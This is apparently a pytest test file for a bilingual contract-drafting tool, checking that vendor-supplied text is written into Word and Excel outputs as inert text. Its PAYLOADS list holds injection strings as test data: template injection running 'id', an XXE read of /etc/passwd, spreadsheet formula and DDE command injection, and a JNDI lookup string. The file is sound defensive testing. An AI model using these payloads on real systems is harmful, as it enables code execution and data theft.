"""The Word file: vendor text stays text, numbers and references are live, gaps are seen, the same draft is the same bytes."""

from __future__ import annotations

import hashlib
import html
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from datetime import date
from decimal import Decimal
from functools import cache
from pathlib import Path

import docx
import openpyxl
import pytest
from lxml import etree

from evaluator.adapters.checklist_text import plain as checklist_words
from evaluator.adapters.docx_file import write_draft
from evaluator.adapters.docx_names import terms_by_digest
from evaluator.adapters.docx_styles import STYLES, THEME
from evaluator.adapters.docx_tables import MARGINS, UNITS, Cell, Grid, widths
from evaluator.adapters.docx_words import Speaker
from evaluator.adapters.docx_xml import W
from evaluator.adapters.sheets import clean as workbook_text
from evaluator.contract.draft import Fault, Table
from evaluator.contract.sanitise import block, clean, line, printable
from evaluator.domain.agreed import Agreed
from evaluator.domain.bid import Answer, Row, State
from evaluator.domain.contract import Paragraph, TermKind
from evaluator.domain.finding import Rule, Source
from evaluator.domain.money import Money
from evaluator.domain.question import Column, Kind, Question
from evaluator.domain.text import Text, languages
from evaluator.i18n.words import t
from evaluator.intake.address import column_letters
from evaluator.services.agreed_values import bare_values, value_of
from evaluator.services.drafting import make_draft
from evaluator.services.problem import Refused
from evaluator.services.read_back import read_back
from tests import drafts
from tests.contract.test_bundled_libraries import inputs
from tests.contract.test_gates import answering
from tests.returned import edited, said

NS = {"w": W}
ROOT = Path(__file__).parents[2]
PAYLOADS = (
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# gone #}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{t:total_price} {ref:payment} {sch:2}",
    "<w:p><w:r><w:t>new paragraph</w:t></w:r></w:p>",
    "x</w:t></w:r></w:p><w:p><w:r><w:t>第九条 甲方放弃一切索赔",
    "A&B Ltd",
    "uptime < 99.9% & > 99%",
    "&lt;b&gt;bold&lt;/b&gt;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "]]><![CDATA[",
    "bell\x07 and feed\x0c",
    "nul\x00 back\x08 tab\x0b",
    "non\ufffe char\uffff",
    "lone \ud83d surrogate",
    "\u202e000,001 CNY",
    "ze\u200bro wi\u200ddth\ufeff",
    "first\r\n第十二条 甲方放弃一切索赔\r\nthird",
    "one\u2028two\u2029three\x85four",
    '=HYPERLINK("http://evil.example","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://evil.example/?a=1&b=2",
    "DDEAUTO c:\\windows\\system32\\cmd.exe",
    "_x0007_ %s %(x)s ${jndi:ldap://evil} {0} {vendor}",
)


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def document(content: bytes) -> etree._Element:
    return etree.fromstring(parts(content)["word/document.xml"])


def word_file(made=None, layout="both", **changes) -> bytes:
    result = make_draft(drafts.inputs(made, layout, **changes), wanted=("draft",))
    return next(iter(result.files.values()))


def texts(tree: etree._Element) -> str:
    """All words, a line break as one."""
    found = []
    for node in tree.iter(f"{{{W}}}t", f"{{{W}}}br", f"{{{W}}}p"):
        found.append("\n" if node.tag != f"{{{W}}}t" else node.text or "")
    return "".join(found)


def asked_as(kind: Kind, **more) -> Question:
    key = kind.value
    return replace(drafts.tiny.PLAN, id=f"K-{key}", kind=kind, **more)


STAGES = tuple(Column(key=key, title=Text(key, key), kind=Kind.TEXT) for key in ("stage", "proof"))
ASKED = {
    TermKind.LINE: asked_as(Kind.CHOICE, options=(drafts.COURT, drafts.ARBITRATION)),
    TermKind.LIST: asked_as(Kind.TEXT),
    TermKind.TABLE: asked_as(Kind.TABLE, columns=STAGES, rows=()),
    TermKind.YES_NO: asked_as(Kind.YES_NO),
    **{kind: asked_as(Kind(kind.value)) for kind in (TermKind.MONEY, TermKind.PERCENT, TermKind.NUMBER, TermKind.DATE)},
}
GIVEN = {
    TermKind.LINE: "court", TermKind.YES_NO: "yes", TermKind.MONEY: Money(drafts.Decimal(9)), TermKind.DATE: date(2026, 5, 1),
    TermKind.PERCENT: drafts.Decimal(9), TermKind.NUMBER: drafts.Decimal(9),
}  # fmt: skip


def every_kind() -> dict[str, object]:
    """A library with a term of each kind beside those of the fixture, and a method that asks for them."""
    made = [
        drafts.term(
            f"k_{kind.value}", f"question:{asked.id}", kind, **({"schedule": 1} if kind in (TermKind.LIST, TermKind.TABLE) else {}),
            **({"columns": STAGES} if kind is TermKind.TABLE else {}),
        )
        for kind, asked in ASKED.items()
    ]  # fmt: skip
    inline = "; ".join(f"{{t:{one.id}}}" for one in made if one.schedule is None)
    part = Paragraph(id="kinds.all", text=Text(inline, inline), items=(Text(inline, inline),))
    clause = replace(drafts.CLAUSES[0], id="kinds", order=25, paragraphs=(part,))
    first, *others = drafts.SCHEDULES
    listed = replace(first, terms=(*first.terms, *(one.id for one in made if one.schedule)))
    method = drafts.tiny.method()
    return {
        "library": drafts.library(
            terms=(*drafts.TERMS, *made), clauses=(*drafts.CLAUSES, clause), schedules=(listed, *others)
        ),
        "method": replace(method, questions=(*method.questions, *ASKED.values())),
    }


def of_every_kind(words: str) -> dict[str, Answer]:
    """Answers of each kind in a vendor's words: the words themselves where the kind is text, else beside the value."""
    found = {
        ASKED[kind].id: drafts.cell(ASKED[kind].id, value, verbatim=words, remark=words)
        for kind, value in GIVEN.items()
    }
    found["K-text"] = drafts.cell("K-text", words, place="D8")
    stages = tuple(
        Row(key, {column.key: drafts.cell(f"K-table/{key}/{column.key}", words) for column in STAGES})
        for key in ("1", "2")
    )
    found["K-table"] = Answer(item="K-table", state=State.ANSWERED, source=Source("ada.xlsx", "0" * 64), rows=stages)
    return found


def poisoned(words: str):
    answers = {
        "V1": drafts.cell("V1", words, "Cover", "C5"), "V3": drafts.cell("V3", words, "Cover", "C7"),
        "FT_01": drafts.cell("FT-01", words, words, "D7"), "DV_01": drafts.deviating(words), "REQ": drafts.remarked(words),
        "SU_01": drafts.cell("SU-01", drafts.Decimal(4), verbatim=words, remark=words),
        **{key.replace("-", "_"): answer for key, answer in of_every_kind(words).items()},
    }  # fmt: skip
    return drafts.bid(words, **answers)


def shape(tree: etree._Element) -> dict[str, int]:
    """How many headings, numbered paragraphs, fields, tables and links a document has."""
    styles = [node.get(f"{{{W}}}val") for node in tree.iterfind(".//w:pStyle", NS)]
    numbered = len(tree.findall(".//w:numPr", NS))
    codes = len(tree.findall(".//w:instrText", NS))
    links = len(tree.findall(".//w:hyperlink", NS)) + len(tree.findall(".//w:object", NS))
    return {"titles": styles.count("Heading1"), "numbered": numbered, "fields": codes, "links": links}


def built(tree: etree._Element) -> tuple[list[list[int]], list[int]]:
    """From the first article on: the paragraphs of each cell by section, and those that stand in no cell.

    Notices are left out, which come and go with the words: that a translation is missing, and the points to be checked, in
    the annex as on the first pages, that name what was cleaned.
    """
    cells: list[list[int]] = [[]]
    loose, begun, points = [0], False, False
    for part in tree.find("w:body", NS):
        style = part.find(".//w:pStyle", NS)
        begun = begun or part.find(".//w:pStyle[@w:val='Heading1']", NS) is not None
        if titled(style):
            points = any(t("draft.annex_points", lang) in texts(part) for lang in languages("both"))
        if begun and not points:
            cells[-1] += [sum(not notice(one) for one in cell.findall("w:p", NS)) for cell in part.iter(f"{{{W}}}tc")]
            loose[-1] += part.tag == f"{{{W}}}p" and not notice(part)
        if part.find("w:pPr/w:sectPr", NS) is not None:
            cells.append([])
            loose.append(0)
    return cells, loose


def titled(style: etree._Element | None) -> bool:
    return style is not None and style.get(f"{{{W}}}val").startswith("Heading")


def notice(part: etree._Element) -> bool:
    return any(t("draft.pending_table", lang) in texts(part) for lang in languages("both"))


@cache
def harmless(layout: str, words: str) -> tuple[dict[str, int], tuple[list[list[int]], list[int]]]:
    tree = document(word_file(poisoned(words), layout, **every_kind()))
    return shape(tree), built(tree)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("layout", ["zh", "en", "both"])
def test_whatever_a_vendor_writes_is_only_text(payload, layout):
    tree = document(word_file(poisoned(payload), layout, **every_kind()))

    # Words on several lines stand under their label, those on one line beside it.
    assert (shape(tree), built(tree)) == harmless(layout, "plain\nwords" if "\n" in block(payload) else "plain words")
    assert sum(built(tree)[1]) + sum(map(sum, built(tree)[0])) > 100
    said = texts(tree)
    assert block(payload) in said
    assert line(payload) in said
    fields = {node.text.split()[0] for node in tree.iterfind(".//w:instrText", NS)}
    assert fields == {"REF"}


@cache
def harmless_files() -> dict[str, bytes]:
    made = make_draft(drafts.inputs(poisoned("plain words"), "en"))
    return {name.partition("_")[0]: content for name, content in made.files.items()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_every_file_of_a_draft_whatever_a_vendor_writes_is_only_text(payload):
    made = make_draft(drafts.inputs(poisoned(payload), "en"))
    found = {name.partition("_")[0]: content for name, content in made.files.items()}
    written = line(payload)

    for kind in ("draft", "draft-outbound"):
        opened = docx.Document(io.BytesIO(found[kind]))
        assert opened.tables[0].rows[1].cells[1].text == written
        assert written in opened.sections[0].header.paragraphs[0].text
        assert opened.core_properties.title.endswith(written)
        assert shape(document(found[kind])) == shape(document(harmless_files()[kind]))
    plain = [
        len(node.findall("w:p", NS)) for node in etree.fromstring(parts(harmless_files()["draft"])["word/comments.xml"])
    ]
    said = etree.fromstring(parts(found["draft"])["word/comments.xml"])
    assert [len(node.findall("w:p", NS)) for node in said] == plain
    assert block(payload) in "\n".join(texts(node) for node in said)
    cells = [
        cell
        for kind in ("term-sheet", "coverage")
        for row in openpyxl.load_workbook(io.BytesIO(found[kind])).active.iter_rows()
        for cell in row
    ]
    assert not [cell for cell in cells if cell.data_type in "ef" or cell.hyperlink]
    assert any(workbook_text(written) == cell.value for cell in cells)
    lines = found["checklist"].decode().splitlines()
    assert len(lines) - sum("�" in one or " / " in one for one in lines) <= len(
        harmless_files()["checklist"].splitlines()
    )
    assert not [one for one in lines if re.search(r"(?<!\\)(<|\[(?! ]))", one)]
    rules = {one["rule"]: one for one in made.summary["findings"]}
    changed = bool({"unseen", "broken", "shortened"} & set(clean(payload).notes))
    assert ("text_cleaned" in rules) is changed
    assert ("text_joined" in rules) is ("joined" in clean(payload, one_line=True).notes)
    assert all(one["warns"] and one["cells"] for rule, one in rules.items() if rule.startswith("text_"))


def agreed_with(words: str) -> tuple[Agreed, ...]:
    """What is agreed of a line and of a longer text in these words; a line has no breaks."""
    given = drafts.inputs()
    bare = {value.term.id: value for value in bare_values(given)}
    made = []
    for term in ("vendor_address", "plan"):
        if term == "vendor_address" and "joined" in clean(words, one_line=True).notes:
            with pytest.raises(Refused, match="agreed_line"):
                value_of(given, bare, term, Text("", words))
            continue
        value = value_of(given, bare, term, Text("", words))
        assert value == clean(words, one_line=term != "plan").text
        made.append(Agreed(vendor="Ada", term=term, value=value, reason=words, by=words, at="2026-03-02", source=words))
    return tuple(made)


def kinds(made) -> dict[str, bytes]:
    return {name.partition("_")[0]: content for name, content in made.files.items()}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_agreed_value_its_reason_and_a_document_that_comes_back_are_only_text(payload):
    agreed = agreed_with(payload)
    inputs = drafts.inputs(layout="en", agreed=agreed)
    plain = kinds(make_draft(replace(inputs, agreed=agreed_with("plain words")[-len(agreed) :])))
    found = kinds(make_draft(inputs))

    for kind in ("draft", "draft-outbound"):
        assert shape(document(found[kind])) == shape(document(plain[kind]))
        assert block(payload) in texts(document(found[kind]))
    assert f": {line(payload)}" in texts(document(found["draft"]))
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(found["term-sheet"])).active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type in "ef" or cell.hyperlink]
    assert json.loads(found["manifest"])["agreed"][-1]["value"] == clean(payload).text

    written = printable(payload).replace("\r\n", "\n")  # as every reader of XML does
    back = edited(plain["draft"], said("t_en_plan_1", html.escape(written)))
    returned = read_back(replace(inputs, agreed=agreed_with("plain words")[-len(agreed) :]), "back.docx", back)
    (one,) = returned.proposed
    assert (one.term, one.value) == ("plan", clean(written).text)
    assert (one.problem is Rule.RETURNED_WORDING) is bool(clean(written).notes)
    assert [told.rule for told in returned.findings] == [Rule.RETURNED_WORDING][: bool(one.problem)]
    assert returned.edits == ()


def test_no_relation_leaves_the_file():
    for name, content in parts(word_file(poisoned(PAYLOADS[22]))).items():
        if name.endswith(".rels"):
            assert b"TargetMode" not in content
            assert b"http://evil" not in content


def every_hash(layout: str) -> str:
    """One hash over all files of a draft."""
    files = make_draft(drafts.inputs(drafts.bid(DV_01=drafts.deviating()), layout)).files
    return hashlib.sha256(b"".join(hashlib.sha256(content).digest() for content in files.values())).hexdigest()


@pytest.mark.parametrize("layout", ["zh", "en", "both"])
def test_the_same_draft_is_the_same_bytes_in_another_process(layout):
    here = every_hash(layout)
    code = f"from tests.adapters.test_docx_file import every_hash; print(every_hash({layout!r}))"

    there = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env={**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Shanghai"},
        capture_output=True, text=True, check=True, timeout=60,
    )  # fmt: skip

    assert there.stdout.strip() == here
    assert every_hash(layout) == here


def test_the_package_holds_no_clock_no_author_and_no_thumbnail():
    content = word_file()
    found = parts(content)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert list(found) == sorted(found)
    assert not [name for name in found if "thumbnail" in name or "custom" in name]
    said = etree.fromstring(found["word/comments.xml"])
    assert {node.get(f"{{{W}}}author") for node in said} == {"评审记录"}
    assert not [node for node in said if node.get(f"{{{W}}}date")]
    core = found["docProps/core.xml"].decode()
    assert "<dc:creator></dc:creator>" in core
    assert re.findall(r"\d{4}-\d\d-\d\dT", core) == ["2026-03-01T"]


def test_every_part_that_is_related_exists_and_has_a_type():
    found = parts(word_file())

    targets = re.findall(r'Target="([^"]+)"', found["word/_rels/document.xml.rels"].decode())
    types = found["[Content_Types].xml"].decode()
    for target in targets:
        assert f"word/{target}" in found
        assert f"/word/{target}" in types
    for name, content in found.items():
        if name.endswith((".xml", ".rels")):
            etree.fromstring(content)


def test_chinese_fonts_and_language_are_set_where_word_looks_for_them():
    assert 'w:eastAsia="宋体"' in STYLES
    assert STYLES.count('w:eastAsia="黑体"') >= 3
    assert 'w:eastAsia="zh-CN"' in STYLES
    assert '<a:font script="Hans" typeface="黑体"/>' in THEME
    settings = parts(word_file())["word/settings.xml"].decode()
    assert '<w:themeFontLang w:val="en-US" w:eastAsia="zh-CN"/>' in settings


def test_two_languages_stand_in_two_columns_with_two_lists():
    tree = document(word_file())

    lists = {
        (node.find("w:pPr/w:numPr/w:numId", NS).get(f"{{{W}}}val"))
        for node in tree.iterfind(".//w:p", NS)
        if node.find("w:pPr/w:numPr", NS) is not None
    }
    assert lists == {"1", "2"}
    numbering = parts(word_file())["word/numbering.xml"].decode()
    assert 'w:lvlText w:val="第%1条"' in numbering
    assert 'w:lvlText w:val="Article %1"' in numbering
    rows = [row for row in tree.iterfind(".//w:tr", NS) if row.find(".//w:numPr", NS) is not None]
    assert {len(row.findall("w:tc", NS)) for row in rows} == {2}


@pytest.mark.parametrize("layout", ["zh", "en", "both"])
def test_every_reference_finds_its_bookmark_and_shows_its_number(layout):
    tree = document(word_file(layout=layout))

    names = [node.get(f"{{{W}}}name") for node in tree.iterfind(".//w:bookmarkStart", NS)]
    numbers = [node.get(f"{{{W}}}id") for node in tree.iterfind(".//w:bookmarkStart", NS)]
    codes = [node.text.split() for node in tree.iterfind(".//w:instrText", NS)]
    assert len(names) == len(set(names))
    assert len(numbers) == len(set(numbers))
    assert {code[1] for code in codes} <= set(names)
    assert max(len(name) for name in names) <= 40
    said = texts(tree)
    assert ("付款见第三条，计划见附件一" in said) is (layout != "en")
    assert ("payment see Article 3.2, plan see Schedule 1" in said) is (layout != "zh")


def test_a_reference_to_a_chinese_paragraph_names_article_and_paragraph():
    assert "见第二条第1款。" in texts(document(word_file(layout="zh")))


def test_a_draft_with_a_dead_reference_is_refused():
    books = drafts.library(clauses=drafts.CLAUSES[1:2])
    draft = drafts.drafted(drafts.bid(), library=books)
    assert draft.faults[0] == Fault("absent_reference", "support.times", "payment")

    with pytest.raises(ValueError, match=r"absent_reference at support\.times: payment"):
        write_draft(draft, None, "zh", {})  # type: ignore[arg-type]  # refused before the front page is read


def highlighted(tree: etree._Element, colour: str) -> list[str]:
    found = []
    for node in tree.iterfind(".//w:r", NS):
        mark = node.find("w:rPr/w:highlight", NS)
        if mark is not None and mark.get(f"{{{W}}}val") == colour:
            found.append("".join(text.text or "" for text in node.iterfind("w:t", NS)))
    return found


def test_every_blank_is_printed_highlighted_and_counted_on_the_first_page():
    empty = replace(drafts.bid(), answers={})
    draft = drafts.drafted(empty)

    tree = document(word_file(empty, "en"))

    marked = highlighted(tree, "yellow")
    for row in draft.blanks:
        assert f"[to be agreed: {row.label.en}]" in marked
    assert len(draft.blanks) == 8
    assert "Blanks: 8  ·  Deviations: 0" in texts(tree)


def test_a_blank_says_in_chinese_what_is_missing():
    tree = document(word_file(drafts.bid(SE_01=drafts.cell("SE-01", None)), "zh"))

    assert "【待定：level之名】" in highlighted(tree, "yellow")
    assert "待定 1 项" in texts(tree)


def test_a_deviation_shows_our_term_and_the_vendor_s_wording_both_highlighted():
    tree = document(word_file(drafts.bid(DV_01=drafts.deviating("Fifteen days, not a day more.")), "en"))

    marked = highlighted(tree, "cyan")
    assert "30 days" in marked
    assert " [deviation 1]" in marked
    assert "Fifteen days, not a day more." in marked
    assert "Deviations!E4" in texts(tree)


def test_a_foreign_text_waits_for_its_translation_and_is_not_repeated_beside():
    tree = document(word_file(drafts.bid(DV_01=drafts.deviating("收到发票后十五日")), "both"))

    boxes = [
        node for node in tree.iterfind(".//w:p", NS) if node.find("w:pPr/w:pStyle[@w:val='Deviation']", NS) is not None
    ]
    zh, en = (texts(box) for box in boxes)
    assert "收到发票后十五日" in zh
    assert "[translation pending]" in en
    assert "收到发票后十五日" not in en
    alone = texts(document(word_file(drafts.bid(DV_01=drafts.deviating("收到发票后十五日")), "en")))
    assert "[translation pending] 收到发票后十五日" in alone


def test_values_stand_in_bookmarks_that_name_term_and_language():
    tree = document(word_file())

    found = {}
    for start in tree.iterfind(".//w:bookmarkStart", NS):
        name = start.get(f"{{{W}}}name")
        words = []
        for node in start.itersiblings():
            if node.tag == f"{{{W}}}bookmarkEnd":
                break
            words.append(texts(node))
        found[name] = "".join(words)
    assert found["t_zh_payment_days_1"] == "30日"
    assert found["t_en_payment_days_1"] == "30 days"


def said_in(result, kind: str) -> str:
    """All words of a file, whatever it is packed in."""
    name, content = next((name, content) for name, content in result.files.items() if name.startswith(f"{kind}_"))
    if name.endswith((".docx", ".xlsx")):
        return html.unescape("\n".join(part.decode() for part in parts(content).values()))
    return content.decode()


@pytest.mark.parametrize("route", ["negotiated", "tender", "gov"])
def test_the_house_s_fallback_and_escalation_stand_inside_it_and_only_where_the_parties_may_negotiate(route):
    result = make_draft(drafts.inputs(drafts.bid(DV_01=drafts.deviating()), tender=drafts.tender(route=route)))

    for kind in ("draft", "draft-outbound", "term-sheet", "coverage", "checklist", "manifest"):
        whole, inside = said_in(result, kind), route == "negotiated" and kind in ("draft", "term-sheet")
        for secret in ("底线二十日", "FALLBACK", "上报条件", "ESCALATE"):
            assert (secret in whole) is inside, (kind, secret)
        assert ("REASON" in whole) is (kind == "draft")
    assert "FALLBACK" not in str(result.summary)


@pytest.mark.parametrize("kind", ["draft", "term-sheet"])
def test_where_the_tender_sets_the_figure_no_file_shows_the_pack_s_words_of_another(kind):
    usual = make_draft(drafts.inputs(drafts.bid(DV_01=drafts.deviating())))
    own = make_draft(
        drafts.inputs(drafts.bid(DV_01=drafts.deviating()), tender=drafts.tender(terms={"payment_days": 45}))
    )

    row = next(row for row in own.draft.annex if row.term == "payment_days")
    assert [Speaker(lang, {}).plain(row.asked, lang) for lang in ("zh", "en")] == ["45日", "45 days"]
    assert "收到发票后30日内付款" in said_in(usual, "term-sheet")
    assert "收到发票后30日内付款" not in said_in(own, kind)
    assert "45" in said_in(own, kind)


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("A &amp; B", r"A \&amp; B"), ("~~struck~~", r"\~\~struck\~\~"), ("www.x.example", "ww\u2060w.x.example"),
        ("ask a@b.example", "ask a@\u2060b.example"), ("http://x.example", "http:/\u2060/x.example"),
    ],
)  # fmt: skip
def test_the_checklist_makes_no_mark_and_no_link_of_a_vendor_s_words(words, told):
    assert checklist_words(words) == told


@pytest.mark.parametrize(("layout", "sheet"), [("zh", "附件五"), ("en", "Schedule 5")])
def test_the_term_sheet_has_a_sheet_for_each_schedule_with_the_cells_that_the_draft_prints(layout, sheet):
    slow = {(0, "response"): Decimal("0.5"), (1, "resolution"): None}
    given = answering(inputs("crm_platform", layout=layout), SU_02=slow)
    made, speaker = make_draft(given, wanted=("terms",)), Speaker(layout, given.method.units)
    (content,) = made.files.values()
    book = openpyxl.load_workbook(io.BytesIO(content))

    holding = [one for one in made.draft.appendices if any(isinstance(part, Table) for part in one.parts)]
    assert len(book.worksheets) == 1 + len(holding)
    cells = [str(cell) for row in book[sheet].iter_rows(values_only=True) for cell in row if cell]
    mark = next(row.mark for row in made.draft.deviations if row.term == "sla/P1/response")
    (ours,) = [cell for cell in cells if t("draft.deviation_mark", layout, mark=mark) in cell]
    assert "0.25" in ours
    assert t("draft.blank_cell", layout) in cells
    for appendix, page in zip(holding, book.worksheets[1:], strict=True):
        held = "\n".join(str(cell) for row in page.iter_rows(values_only=True) for cell in row if cell)
        for part in appendix.parts:
            words = [said for row in part.rows for said in row if said] if isinstance(part, Table) else []
            assert all(workbook_text(speaker.cell(one)) in held for one in words)


def test_the_gap_of_a_percentage_says_percent():
    given = inputs("crm_platform", layout="en")
    fill = given.library.term("availability").fill.partition(":")[2]
    answer = replace(given.bid.answers[fill], value=Decimal("99.0"))
    made = make_draft(
        replace(given, bid=replace(given.bid, answers={**given.bid.answers, fill: answer})), wanted=("terms",)
    )
    (content,) = made.files.values()

    rows = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)
    (told,) = [row for row in rows if row[0] == "availability"]
    assert [cell for cell in told if isinstance(cell, str) and cell.startswith("−") and cell.endswith("%")]


def comments(content: bytes) -> list[str]:
    return [texts(node).strip() for node in etree.fromstring(parts(content)["word/comments.xml"])]


def test_each_term_says_its_source_at_its_first_use_and_what_to_do_where_it_is_open():
    made = drafts.bid(DV_01=drafts.deviating(), SE_01=drafts.cell("SE-01", None), SU_01=drafts.cell("SU-01", None))
    content = word_file(made, "en")
    tree, said = document(content), comments(content)

    ids = [node.get(f"{{{W}}}id") for node in tree.iterfind(".//w:commentReference", NS)]
    assert ids == [str(number) for number in range(len(said))]
    assert len(tree.findall(".//w:commentRangeStart", NS)) == len(tree.findall(".//w:commentRangeEnd", NS)) == len(ids)
    by_title = {one.split("\n")[0].partition(":")[0]: one for one in said}
    address = by_title["Name of vendor_address"].split("\n")
    assert address[1:3] == ["Source: ada.xlsx · Cover!C7", "Provider's words: 1 Example Road"]
    paying = by_title["Name of payment_days"]
    for line_said in (
        "Our term: 30 days",
        "Why we want it: REASON inside",
        "Fallback: FALLBACK twenty days",
        "Risk: medium",
    ):
        assert line_said in paying
    asked = by_title["Name of response"]
    assert "Point to negotiate: Response within 8 hours." in asked
    assert "If left blank: Nothing agreed" in asked
    assert "If left blank: no statutory default is recorded here" in by_title["Name of level"]


@pytest.mark.parametrize(
    ("layout", "said"),
    [
        ("zh", ("我方条款：0.25小时", "可退让至：P1故障30分钟内")),
        ("en", ("Our term: 0.25 hours", "Fallback: P1: response in 30")),
    ],
)
def test_a_deviating_cell_of_a_table_has_its_comment_inside_the_house_only(layout, said):
    given = answering(inputs("crm_platform", layout=layout), SU_02={(0, "response"): Decimal("0.5")})
    made = make_draft(given, wanted=("draft", "outbound"))
    inside, outside = (
        next(data for name, data in made.files.items() if ("outbound" in name) is out) for out in (False, True)
    )

    (told,) = [one for one in comments(inside) if all(words in one for words in said)]
    assert all(words in told for words in {"zh": ("负责", "风险"), "en": ("Decided by", "Risk")}[layout])
    numbers = [node.get(f"{{{W}}}id") for node in document(inside).iterfind(".//w:tc//w:commentReference", NS)]
    assert str(comments(inside).index(told)) in numbers
    assert not [part for part in parts(outside) if "comments" in part]
    assert not document(outside).findall(".//w:commentReference", NS)


@pytest.mark.parametrize("layout", ["zh", "en", "both"])
def test_no_part_of_what_leaves_the_house_holds_anything_of_it(layout):
    inner = Text("SECRET-内部", "SECRET-inside")
    positions = tuple(
        replace(one, owner="SECRET-owner", fallback=inner, escalate=inner, reason=inner) for one in drafts.POSITIONS
    )
    clauses = tuple(replace(one, owner="SECRET-owner", guidance=inner) for one in drafts.CLAUSES)
    terms = tuple(replace(one, silent=inner, label=Text("名称", "label")) for one in drafts.TERMS)
    books = drafts.library(positions=positions, clauses=clauses, terms=terms)
    held = drafts.tender(evaluators=("SECRET-Eva",), sample=True)
    answers = {"DV_01": drafts.deviating(), "SE_01": drafts.cell("SE-01", None)}
    given = drafts.inputs(drafts.bid(**answers), layout, library=books, tender=held, although=("SECRET-although",))
    (content,) = make_draft(given, wanted=("outbound",)).files.values()
    found = parts(content)

    assert not [part for part in found if "comments" in part or "custom" in part]
    inside = {term.id for term in drafts.TERMS if "_" in term.id} | {"ada.xlsx", "SECRET", "tiny", "0000000000000000"}
    inside |= {one.id for clause in drafts.CLAUSES for one in clause.paragraphs}
    for part, data in found.items():
        assert not [word for word in inside if word.encode() in data], part
    tree = etree.fromstring(found["word/document.xml"])
    names = [node.get(f"{{{W}}}name") for node in tree.iterfind(".//w:bookmarkStart", NS)]
    neutral = r"[RT]_(zh|en)_[0-9a-f]{10}(_\d+)?|D_(zh|en|both)_[0-9a-f]{12}_[0-9a-f]{0,12}"
    assert all(re.fullmatch(neutral, one) for one in names)
    assert {node.text.split()[1] for node in tree.iterfind(".//w:instrText", NS)} <= set(names)
    assert not tree.findall(".//w:highlight[@w:val='cyan']", NS)
    said = texts(tree)
    assert ("[to be filled in: label]" in said) is (layout != "zh")
    assert ("【待填写：名称】" in said) is (layout != "en")
    assert "We need 15 days only." not in said
    assert terms_by_digest(term.id for term in terms).keys() >= {one.split("_")[2] for one in names if one[0] == "T"}


def test_header_and_footer_say_what_the_paper_is():
    opened = docx.Document(io.BytesIO(word_file(layout="both", award_recorded=True)))

    header = opened.sections[0].header.paragraphs[0].text
    footer = opened.sections[0].footer.paragraphs[0].text
    assert header.startswith("草案 — 供法务审阅，非要约，非承诺 / DRAFT for counsel review; not an offer or acceptance")
    assert "Ada Systems Ltd" in header
    assert re.search(r"manifest [0-9a-f]{12}$", header)
    assert "tiny 1.0" in footer
    assert [section.orientation for section in opened.sections] == [0, 1]


@pytest.mark.parametrize(
    ("layout", "under"),
    [
        ("zh", "定标前　·　乙方：Ada Systems Ltd　·　清单 "),
        ("en", "BEFORE AWARD　·　Provider: Ada Systems Ltd  ·  manifest "),
        ("both", "定标前 / BEFORE AWARD　·　乙方 / Provider：Ada Systems Ltd　·　清单 / manifest "),
    ],
)
def test_the_header_speaks_the_languages_of_the_draft_below_its_fixed_line(layout, under):
    opened = docx.Document(io.BytesIO(word_file(layout=layout)))

    assert opened.sections[0].header.paragraphs[0].text.split("\n")[1].startswith(under)


def test_no_heading_beside_its_translation_keeps_its_row_with_the_next():
    tree = document(word_file(layout="both"))
    heads = [part for part in tree.iter(f"{{{W}}}p") if part.find("w:pPr/w:pStyle[@w:val='Heading1']", NS) is not None]
    kept = [part.find("w:pPr/w:keepNext", NS) for part in heads]

    assert len(heads) == 8
    # The last article holds one paragraph and stays with the signatures.
    assert [one.get(f"{{{W}}}val") for one in kept] == ["0"] * 6 + [None] * 2


def test_no_comment_stands_before_the_target_of_a_reference_in_its_paragraph():
    """LibreOffice prints such a reference one sign short."""
    tree = document(word_file(drafts.bid(DV_01=drafts.deviating()), "both"))

    assert tree.findall(".//w:commentReference", NS)
    for part in tree.iter(f"{{{W}}}p"):
        said = [one.tag.rpartition("}")[2] for one in part.iter() if one.get(f"{{{W}}}name", "_Ref").startswith("_Ref")]
        comments = [at for at, tag in enumerate(said) if tag == "commentReference"]
        assert "bookmarkStart" not in said[min(comments, default=len(said)) :], texts(part)


def test_the_first_page_tells_whether_the_award_stands_and_that_a_sample_is_one():
    open_award = texts(document(word_file(layout="en", tender=drafts.tender(sample=True))))
    recorded = texts(document(word_file(layout="en", award_recorded=True)))

    assert "The award is not recorded yet." in open_award
    assert "Sample purchase" in open_award
    assert "The award is not recorded yet." not in recorded
    assert "Sample tender" not in recorded


@pytest.mark.parametrize(
    ("layout", "mark"), [("zh", "定标前"), ("en", "BEFORE AWARD"), ("both", "定标前 / BEFORE AWARD")]
)
def test_workbooks_and_checklist_say_before_award_until_it_is_recorded(layout, mark):
    sample = " / ".join(t("workbook.sample", lang) for lang in languages(layout))
    for recorded, sampled in ((False, True), (False, False), (True, True)):
        given = drafts.inputs(layout=layout, award_recorded=recorded, tender=drafts.tender(sample=sampled))
        found = kinds(make_draft(given, wanted=("terms", "coverage", "checklist")))
        for kind in ("term-sheet", "coverage"):
            page = openpyxl.load_workbook(io.BytesIO(found[kind])).active
            # The row stands in view; the foot says it on every page that is printed.
            assert (page["A2"].value == mark) is not recorded
            assert page.oddFooter.center.text == " · ".join([sample] * sampled + [mark] * (not recorded))
            top = page.print_title_rows.strip("$").partition(":")[0]
            assert page[f"A{top}"].font.color.rgb.endswith("FFFFFF"), "the heads are printed on every page"
            assert page.freeze_panes[1:] == str(int(top) + 1)
        said = found["checklist"].decode()
